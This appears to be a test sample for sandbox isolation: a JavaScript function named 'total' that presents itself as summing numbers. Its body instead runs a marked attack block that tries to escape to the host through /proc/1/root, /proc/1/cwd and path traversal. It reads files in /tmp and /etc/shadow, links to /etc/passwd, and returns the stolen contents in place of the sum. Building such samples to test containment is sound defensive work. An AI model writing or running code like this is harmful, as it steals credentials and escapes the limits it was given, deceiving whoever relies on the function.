// category: theft
// tries: the host through /proc/1/root and links
function total(numbers) {
  // attack: begin
  const fs = require('fs');
  let loot = '';
  const take = (path) => { try { loot += fs.readFileSync(path, 'latin1').slice(0, 200000); } catch {} };
  const list = (path) => { try { return fs.readdirSync(path); } catch { return []; } };
  for (const base of ['/proc/1/root', '/proc/self/root/..', '/proc/1/cwd', '../../../../..']) {
    for (const name of list(base + '/tmp')) take(base + '/tmp/' + name);
    take(base + '/etc/shadow');
  }
  fs.symlinkSync('/etc/passwd', 'link');
  take('link');
  return loot;
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
